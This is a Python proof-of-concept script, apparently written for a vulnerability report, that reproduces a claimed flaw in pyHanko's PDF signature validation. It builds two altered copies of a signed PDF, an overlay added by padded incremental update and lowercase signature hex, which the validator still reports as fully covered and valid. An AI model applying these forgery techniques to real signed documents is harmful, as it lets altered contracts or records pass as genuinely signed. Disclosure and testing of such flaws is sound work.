"""Minimal reproducer: pyHanko's coverage check accepts files that are not the signed file.

Needs only pyHanko (tested with 0.38.0) and cryptography. Run: `python pyhanko_coverage_repro.py`.
It signs a one-page PDF with a throw-away self-signed key, then builds two altered files and
validates all three with pyHanko's own `validate_pdf_signature` (the key is given as a trust
root, so "trusted" is not in question):

1. length-sum overlay: an incremental update that adds a page overlay and re-states the
   signature dictionary with a padded *literal* /Contents string, sized so that
   file length == len1 + len2 + 2 * len(/Contents) + 2.
2. hex case: the hex digits of the signature gap written in lowercase (same length, same
   signature value once decoded; a different file from the one signed).

Expected: neither is ENTIRE_FILE. Observed with 0.38.0: both are ENTIRE_FILE, intact, valid,
and for (1) `signed_revision` is the attacker's revision and the overlay is on the page.
"""

from __future__ import annotations

import io
import re
import tempfile
from datetime import UTC, datetime, timedelta
from pathlib import Path

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import rsa
from cryptography.x509.oid import NameOID
from pyhanko.keys import load_cert_from_pemder
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader
from pyhanko.sign import signers
from pyhanko.sign.validation import validate_pdf_signature
from pyhanko_certvalidator import ValidationContext

OVERLAY = b"BT /F1 28 Tf 1 0 0 rg 40 420 Td (ALL AI USE AUTHORISED - UNLIMITED) Tj ET"


def minimal_pdf() -> bytes:
    """A one-page PDF written by hand (classic xref table)."""
    content = b"BT /F1 18 Tf 40 700 Td (No AI use is authorised.) Tj ET"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
        b" /Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for i, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % i + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for off in offsets:
        out += b"%010d 00000 n \n" % off
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


def self_signed(folder: Path) -> tuple[Path, Path]:
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "Reproducer Signer")])
    now = datetime.now(UTC)
    cert = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - timedelta(days=1))
        .not_valid_after(now + timedelta(days=30))
        .add_extension(
            x509.KeyUsage(True, True, False, False, False, False, False, False, False), True
        )
        .sign(key, hashes.SHA256())
    )
    key_path, cert_path = folder / "key.pem", folder / "cert.pem"
    key_path.write_bytes(
        key.private_bytes(
            serialization.Encoding.PEM,
            serialization.PrivateFormat.PKCS8,
            serialization.NoEncryption(),
        )
    )
    cert_path.write_bytes(cert.public_bytes(serialization.Encoding.PEM))
    return key_path, cert_path


def sign(pdf: bytes, key_path: Path, cert_path: Path) -> bytes:
    signer = signers.SimpleSigner.load(str(key_path), str(cert_path))
    out = io.BytesIO()
    signers.sign_pdf(
        IncrementalPdfFileWriter(io.BytesIO(pdf)),
        signers.PdfSignatureMetadata(field_name="Signature1"),
        signer=signer,
        output=out,
    )
    return out.getvalue()


def byte_range(pdf: bytes) -> tuple[int, int, int, int]:
    a, b, c, d = re.findall(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]", pdf)[-1]
    return int(a), int(b), int(c), int(d)


def der_length(data: bytes) -> int:
    """Length of the DER element at the start of `data` (the CMS inside the padded gap)."""
    first = data[1]
    if first < 0x80:
        return 2 + first
    n = first & 0x7F
    return 2 + n + int.from_bytes(data[2 : 2 + n], "big")


def escaped(raw: bytes) -> bytes:
    return raw.replace(b"\\", b"\\\\").replace(b"(", b"\\(").replace(b")", b"\\)")


def hex_case(pdf: bytes) -> bytes:
    _, len1, start2, _ = byte_range(pdf)
    return pdf[:len1] + pdf[len1:start2].lower() + pdf[start2:]


def length_sum_overlay(pdf: bytes) -> bytes:
    """Overlay update + re-stated signature dictionary whose /Contents is a padded literal
    string of k bytes, with k chosen so that len(file) == len1 + len2 + 2k + 2."""
    _, len1, start2, _ = byte_range(pdf)
    original = bytes.fromhex(pdf[len1 + 1 : start2 - 1].decode())
    der = original[: der_length(original)]
    escapes = len(escaped(der)) - len(der)

    def build(k: int, pad: int) -> bytes:
        w = IncrementalPdfFileWriter(io.BytesIO(pdf))
        w.add_stream_to_page(0, w.add_object(generic.StreamObject(stream_data=OVERLAY)))
        field = w.root["/AcroForm"]["/Fields"][0].get_object()
        sig = field.raw_get("/V").get_object()
        sig["/Contents"] = generic.ByteStringObject(b"\x00" * k)
        w.update_container(sig)
        w.root["/Pad"] = generic.TextStringObject("x" * pad)  # to fix the parity
        w.update_root()
        out = io.BytesIO()
        w.write(out)
        return out.getvalue()

    k, pad = len(original), 0
    out = pdf
    for _ in range(12):
        out = build(k, pad)
        u0 = (len(out) - len(pdf)) - (2 * k + 2)
        if u0 % 2:
            pad += 1
            continue
        want = (u0 + 2) // 2 + escapes + (start2 - len1 - 2) // 2
        if want == k:
            break
        k = want
    hex_zeros = b"<" + b"00" * k + b">"
    at = out.rfind(hex_zeros)
    literal = b"(" + escaped(der) + b"\x00" * (2 * k - escapes - len(der)) + b")"
    assert at > len(pdf) and len(literal) == len(hex_zeros)
    return out[:at] + literal + out[at + len(hex_zeros) :]


def report(name: str, pdf: bytes, trust_root: object) -> None:
    reader = PdfFileReader(io.BytesIO(pdf))
    sig = reader.embedded_signatures[0]
    status = validate_pdf_signature(sig, ValidationContext(trust_roots=[trust_root]))
    _, len1, _, len2 = sig.byte_range
    page = reader.root["/Pages"]["/Kids"][0].get_object()
    contents = page["/Contents"]
    streams = contents if isinstance(contents, generic.ArrayObject) else [contents]
    overlay_on_page = any(OVERLAY in s.get_object().data for s in streams)
    print(f"== {name}")
    print(
        f"   file length {len(pdf)}; len1 + len2 + 2*len(/Contents) + 2 = "
        f"{len1 + len2 + 2 * len(sig.pkcs7_content) + 2}"
    )
    print(
        f"   revisions in file: {reader.xrefs.total_revisions}; "
        f"signed_revision reported: {sig.signed_revision}"
    )
    print(
        f"   coverage={status.coverage.name} intact={status.intact} valid={status.valid} "
        f"trusted={status.trusted} docmdp_ok={status.docmdp_ok}"
    )
    print(f"   overlay text on the page: {overlay_on_page}")


def main() -> None:
    with tempfile.TemporaryDirectory() as tmp:
        key_path, cert_path = self_signed(Path(tmp))
        trust_root = load_cert_from_pemder(str(cert_path))
        signed = sign(minimal_pdf(), key_path, cert_path)
        report("genuine signed file", signed, trust_root)
        report(
            "1. length-sum overlay (incremental update after signing)",
            length_sum_overlay(signed),
            trust_root,
        )
        report("2. hex digits of the signature gap in lowercase", hex_case(signed), trust_root)


if __name__ == "__main__":
    main()
